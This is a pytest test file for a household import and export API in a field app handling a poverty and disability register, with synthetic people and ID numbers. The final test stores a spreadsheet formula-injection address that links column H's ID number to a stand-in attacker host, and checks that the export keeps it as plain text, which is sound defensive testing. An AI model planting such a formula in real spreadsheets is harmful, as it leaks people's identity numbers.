"""Household import through the API: dry run, all or nothing, idempotent, updates."""

import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from fieldapp.extensions import db
from fieldapp.models import AuditLog, Household, Job, Person
from tests.factories import count, household_payload, make_id, member_payload, only
from tests.import_factories import household_rows, person_row, xlsx

TOWN, OTHER_TOWN = "469006100", "469006101"
URL = "/api/v1/imports/households"


@pytest.fixture
def boss(make_user):
    """A supervisor of 万城镇."""
    return make_user("supervisor", towns=[TOWN], username="boss")


@pytest.fixture
def upload(api, boss):
    """upload(rows, dry_run=False, user=boss) → the API's answer."""

    def send(rows_or_bytes, dry_run=False, user=None, name="名单.xlsx"):
        data = (
            rows_or_bytes if isinstance(rows_or_bytes, bytes) else xlsx(rows_or_bytes)
        )
        form = {"file": (io.BytesIO(data), name)}
        if dry_run:
            form["dry_run"] = "1"
        return api(user or boss).post(
            URL, data=form, content_type="multipart/form-data"
        )

    return send


def stored_versions() -> dict[str, int]:
    """Each stored household's version."""
    return dict(db.session.execute(select(Household.uuid, Household.version)).all())


def test_a_dry_run_counts_and_writes_nothing(upload, boss):
    rows = household_rows("WN-1", members=3) + household_rows("WN-2", members=1)
    response = upload(rows, dry_run=True)
    assert response.status_code == 200
    body = response.get_json()
    assert body["dry_run"] is True and body["imported"] is False
    assert (body["rows"], body["households_created"], body["members_created"]) == (
        4,
        2,
        4,
    )
    assert body["households_updated"] == 0 and body["errors"] == []
    assert count(Household) == 0 and count(Person) == 0
    entry = only(AuditLog, action="import")
    assert entry.actor_id == boss.id and entry.detail["file"] == "名单.xlsx"
    assert entry.detail["households_created"] == 2 and entry.detail["dry_run"] is True
    assert rows[0]["id_number"] not in str(entry.detail) and "王" not in str(
        entry.detail
    )


def test_an_import_stores_households_with_their_register_numbers(upload):
    card_holder = make_id(date(1980, 6, 1))
    rows = household_rows("WN-7", members=2, village="石桥村")
    rows[1] |= {"id_number": card_holder, "disability_card": card_holder + "52"}
    body = upload(rows).get_json()
    assert body["imported"] is True and body["households_created"] == 1
    household = only(Household, register_no="WN-7")
    assert (household.town_code, household.village, household.lat) == (
        TOWN,
        "石桥村",
        18.8,
    )
    assert household.poverty_status == "registered_poor" and household.version == 1
    head, child = household.members
    assert (head.relation, child.relation) == ("head", "child")
    assert (child.disability_category, child.disability_level) == (5, 2)
    assert child.birth_date == date(1980, 6, 1) and child.phone == ""
    assert count(AuditLog, action="create", object_type="person") == 2


def test_importing_the_same_file_again_creates_and_changes_nothing(upload):
    rows = household_rows("WN-1", members=2) + household_rows("WN-2", members=1)
    assert upload(rows).get_json()["households_created"] == 2
    versions = stored_versions()
    updates = count(AuditLog, action="update")
    again = upload(rows).get_json()
    assert again["households_created"] == again["members_created"] == 0
    assert again["households_updated"] == again["members_updated"] == 0
    assert again["households_unchanged"] == 2 and again["changes"] == []
    assert stored_versions() == versions
    assert count(Person) == 3 and count(AuditLog, action="update") == updates


def test_a_changed_address_and_a_new_member_update_the_household(upload):
    rows = household_rows("WN-1", members=2)
    upload(rows)
    household = only(Household, register_no="WN-1")
    kept_phone = household.members[0].phone
    newborn = person_row(
        "WN-1", name="王三", relation="子女", disability_card="", address=""
    )
    changed = [
        rows[0] | {"address": "东岭村9号", "phone": ""},
        newborn,
    ]  # row 2 left out
    body = upload(changed).get_json()
    assert body["errors"] == []
    assert (body["households_updated"], body["members_created"]) == (1, 1)
    assert body["households_created"] == 0 and body["members_updated"] == 0
    assert body["changes"] == [
        {
            "row": 2,
            "household_no": "WN-1",
            "household_uuid": household.uuid,
            "fields": ["地址"],
            "members_added": 1,
            "members_updated": 0,
        }
    ]
    household = only(Household, register_no="WN-1")
    assert household.address == "东岭村9号" and household.version == 2
    assert [m.name for m in household.members] == ["王大明", "王小1", "王三"]
    assert household.members[0].phone == kept_phone  # an empty cell keeps it


def test_a_household_registered_in_the_field_is_matched_by_member_id(
    upload, make_household
):
    field = make_household(TOWN)
    person = field.members[0]
    rows = [person_row("WN-9", id_number=person.id_number, name=person.name)]
    body = upload(rows).get_json()
    assert body["households_created"] == 0 and body["households_updated"] == 1
    assert body["changes"][0]["fields"][0] == "户编号"
    assert only(Household, uuid=field.uuid).register_no == "WN-9"
    assert count(Household) == 1


def test_the_export_imports_again_without_changes(api, upload, boss, make_household):
    make_household(TOWN)  # registered in the field: no 户编号 yet
    upload(household_rows("WN-1", members=2))
    response = api(boss).get("/api/v1/exports/households.xlsx")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    exported = response.get_data()
    response.close()
    sheet = load_workbook(io.BytesIO(exported)).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("户编号", "镇", "村") and len(rows) == 4
    assert any(len(str(r[7])) == 18 for r in rows[1:])  # full ID numbers
    again = upload(exported).get_json()
    assert again["error_count"] == 0 and again["households_unchanged"] == 2
    assert again["households_updated"] == again["households_created"] == 0
    entry = only(AuditLog, action="export", object_type="households")
    assert entry.detail["unmasked"] is True


def test_one_bad_row_means_nothing_is_written(upload):
    rows = household_rows("WN-1", members=2) + household_rows("WN-2", members=2)
    rows[3]["id_number"] = rows[3]["id_number"][:-1] + (
        "0" if rows[3]["id_number"][-1] != "0" else "1"
    )
    body = upload(rows).get_json()
    assert body["imported"] is False and body["error_count"] == 1
    assert body["households_created"] == 1  # what would have been, the bad one aside
    assert count(Household) == 0 and count(Person) == 0
    assert only(AuditLog, action="import").detail["imported"] is False


def test_the_template_as_downloaded_imports_nothing(api, upload, boss):
    response = api(boss).get("/api/v1/imports/households/template.xlsx")
    assert response.status_code == 200
    data = response.get_data()
    response.close()
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    header, example = list(sheet.iter_rows(values_only=True))[:2]
    assert header == (
        "户编号", "镇", "村", "地址", "贫困类型", "姓名",
        "与户主关系", "身份证号", "残疾人证号", "联系电话", "纬度", "经度",
        "在户状态", "状态日期",
    )  # fmt: skip
    assert example[1] == "万城镇" and example[7] == "469006196005121231"
    assert example[12:] == ("在户", None)
    lists = {
        str(v.sqref).split(":")[0][0]: v.formula1
        for v in sheet.data_validations.dataValidation
    }
    # town, poverty type, relation, status
    assert set(lists) == {"B", "E", "G", "M"}
    options = book["选项"]
    assert options.sheet_state == "hidden"
    assert [c.value for c in options["B"]][1:6] == [
        "建档立卡贫困户", "低保户", "特困供养", "已脱贫", "其他",
    ]  # fmt: skip
    statuses = [c.value for c in options["D"] if c.value][1:]
    assert statuses == ["在户", "已去世", "已迁出"]
    status_list = next(
        v for v in sheet.data_validations.dataValidation if str(v.sqref)[0] == "M"
    )
    assert "留空" in status_list.prompt and status_list.showInputMessage
    assert [c.value for c in options["A"] if c.value][1:] == ["万城镇"]  # boss's town
    body = upload(data).get_json()
    assert body["rows"] == 0 and body["error_count"] == 1
    assert "示例行不会导入" in body["errors"][0]["message"]
    assert count(Household) == 0


def test_a_lost_race_with_the_field_writes_nothing(upload, app, monkeypatch):
    """Someone registers a person of the file between the check and the write."""
    from sqlalchemy import insert

    from fieldapp.importing import run as import_run

    rows = household_rows("WN-1", members=1)
    real_write = import_run.write_plan

    def field_worker_first(plan, actor):
        with db.engine.begin() as conn:
            other = household_payload(TOWN)
            hid = conn.execute(
                insert(Household).values(
                    uuid=other["uuid"],
                    town_code=TOWN,
                    village="别村",
                    poverty_status="other",
                    version=1,
                )  # fmt: skip
            ).inserted_primary_key[0]
            conn.execute(
                insert(Person).values(
                    uuid=member_payload()["uuid"],
                    household_id=hid,
                    name="X",
                    relation="head",
                    id_number=rows[0]["id_number"],
                    birth_date=date(1961, 3, 4),
                    sex="M",
                )  # fmt: skip
            )
        monkeypatch.setattr(import_run, "write_plan", real_write)
        real_write(plan, actor)

    monkeypatch.setattr(import_run, "write_plan", field_worker_first)
    body = upload(rows).get_json()
    assert body["imported"] is False and body["error_count"] == 1
    assert "没有写入任何数据" in body["errors"][0]["message"]
    assert count(Household, register_no="WN-1") == 0 and count(Person) == 1


def test_an_import_whose_lease_is_gone_writes_nothing(upload, monkeypatch):
    from fieldapp.importing.runner import JobHooks

    monkeypatch.setattr(JobHooks, "claim", lambda self: False)
    response = upload(household_rows("WN-1"))
    assert response.status_code == 409
    assert response.get_json()["error"] == "import_cancelled"
    assert count(Household) == 0 and only(Job).status == "cancelled"


@pytest.mark.parametrize("role", ["inspector", "rehab_worker"])
def test_field_roles_cannot_import(upload, api, make_user, role):
    worker = make_user(role, towns=[TOWN])
    assert upload(household_rows("WN-1"), user=worker).status_code == 403
    assert api(worker).get(f"{URL}/template.xlsx").status_code == 403
    assert count(Job) == 0


def test_the_templates_number_columns_are_text_to_the_bottom(api, boss):
    response = api(boss).get("/api/v1/imports/households/template.xlsx")
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="household-import-template.xlsx"; '
        "filename*=UTF-8''%E4%BD%8F%E6%88%B7%E5%90%8D%E5%8D%95"
        "%E5%AF%BC%E5%85%A5%E6%A8%A1%E6%9D%BF.xlsx"
    )
    sheet = load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    response.close()
    columns = sheet.column_dimensions
    # ID, card and phone (H, I, J): text on rows not written yet too.
    assert [columns[c].number_format for c in "HIJ"] == ["@", "@", "@"]
    assert columns["K"].number_format == "General"  # latitude is a number
    assert columns["N"].number_format == "yyyy-mm-dd"  # status day


def test_typed_text_is_exported_as_text_never_as_a_formula(
    api, upload, boss, make_household
):
    formula = '=HYPERLINK("http://evil.example/"&H2,"点击")'
    make_household(TOWN, address=formula)
    response = api(boss).get("/api/v1/exports/households.xlsx")
    exported = response.get_data()
    response.close()
    cell = load_workbook(io.BytesIO(exported)).worksheets[0]["D2"]
    assert (cell.value, cell.data_type) == (formula, "s")
    again = upload(exported).get_json()  # and it comes back as typed
    assert again["error_count"] == 0 and again["households_unchanged"] == 1
